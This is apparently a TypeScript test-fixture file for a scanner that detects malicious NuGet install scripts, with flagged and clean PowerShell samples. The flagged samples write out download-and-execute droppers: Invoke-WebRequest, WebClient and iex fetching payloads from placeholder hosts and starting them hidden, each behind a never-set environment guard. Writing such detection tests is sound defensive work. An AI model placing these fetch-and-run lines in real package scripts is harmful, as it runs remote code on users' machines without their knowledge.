import type { Examples } from '../../../tests/kit/examples.js';

/** Nobody sets it: what is below is read, never run. */
const guard = "if ($env:ASSAY_FIXTURE_NEVER_SET -ne 'run') { return }";

export const examples: Examples = {
  flagged: [
    {
      name: 'dropper',
      about: 'init.ps1 saves a program in the temporary folder and starts it.',
      files: {
        'tools/init.ps1': `param($installPath, $toolsPath, $package, $project)
${guard}
$target = Join-Path $env:TEMP 'helper.exe'
Invoke-WebRequest -Uri 'https://files.fixture.invalid/helper.exe' -OutFile $target
Start-Process -FilePath $target -WindowStyle Hidden
`,
      },
    },
    {
      name: 'web-client',
      about: 'The same with System.Net.WebClient, aliases and an install script.',
      files: {
        'tools/install.ps1': `param($installPath, $toolsPath, $package, $project)
${guard}
$path = "$env:APPDATA\\update.exe"
(New-Object System.Net.WebClient).DownloadFile('http://192.0.2.10/update.bin', $path)
saps $path
`,
      },
    },
    {
      name: 'evaluated-in-place',
      about: 'Nothing touches the disk: the download is evaluated where it stands.',
      files: {
        'tools/init.ps1': `param($installPath)
${guard}
iex (iwr 'https://files.fixture.invalid/stage.ps1' -UseBasicParsing).Content
`,
      },
    },
    {
      name: 'two-scripts',
      about: 'One script of the package fetches, another starts: together they are one program.',
      files: {
        'tools/init.ps1': `param($installPath, $toolsPath)
${guard}
. "$toolsPath\\fetch.ps1"
Start-Process "$env:TEMP\\helper.exe"
`,
        'tools/fetch.ps1': `Invoke-WebRequest 'https://files.fixture.invalid/a' -OutFile "$env:TEMP\\helper.exe"
`,
      },
    },
    {
      name: 'program-nobody-sees',
      about: 'Fetches something and starts what a variable holds, which may be it.',
      level: 'suspicious',
      files: {
        'tools/init.ps1': `param($installPath)
${guard}
Invoke-WebRequest -Uri 'https://files.fixture.invalid/a' -OutFile (Get-CachePath)
& $tool
`,
      },
    },
    {
      name: 'unrelated-acts',
      about:
        'Fetches a list and starts an editor: nothing shows that one has to do with the other.',
      level: 'note',
      files: {
        'tools/init.ps1': `param($installPath)
${guard}
Invoke-WebRequest -Uri 'https://docs.fixture.invalid/versions.json' -OutFile versions.json
Start-Process notepad
`,
      },
    },
  ],
  clean: [
    {
      name: 'opens-readme',
      about: 'Starts what the package brings along and downloads nothing.',
      nearMiss: true,
      files: {
        'tools/init.ps1': `param($installPath, $toolsPath, $package, $project)
$readme = Join-Path $installPath 'readme.html'
Start-Process $readme
`,
        'readme.html': '<p>Read me.</p>\n',
      },
    },
    {
      name: 'own-module',
      about: 'Loads the module that lies beside it.',
      nearMiss: true,
      files: {
        'tools/init.ps1': `param($installPath, $toolsPath)
Import-Module (Join-Path $toolsPath 'Fixture.psm1')
`,
        'tools/Fixture.psm1': `function Get-Fixture { 'fixture' }
`,
      },
    },
    {
      name: 'adds-import',
      about: 'Edits the project, as the scripts of packages.config times did.',
      files: {
        'tools/install.ps1': `param($installPath, $toolsPath, $package, $project)
$project.Object.References | Where-Object { $_.Name -eq 'Old.Fixture' } | ForEach-Object { $_.Remove() }
Write-Host "Installed $($package.Id)"
`,
      },
    },
    {
      name: 'script-nobody-runs',
      about: 'A build helper with the same lines, which Visual Studio does not run.',
      nearMiss: true,
      files: {
        'tools/bootstrap.ps1': `$target = Join-Path $PSScriptRoot 'tool.exe'
Invoke-WebRequest -Uri 'https://files.fixture.invalid/tool.exe' -OutFile $target
Start-Process -FilePath $target
`,
      },
    },
  ],
};
